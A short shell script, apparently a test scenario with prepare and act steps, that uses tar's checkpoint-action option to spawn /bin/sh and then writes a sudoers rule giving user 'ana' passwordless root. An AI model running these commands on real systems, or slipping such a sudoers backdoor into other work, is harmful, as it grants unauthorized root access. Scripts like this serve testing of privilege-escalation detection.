# tar is told to start a shell, then a shell writes a rule of sudo.
prepare() {
    mkdir -p /etc/sudoers.d
}
act() {
    tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh
    echo 'ana ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/zz-ana
}
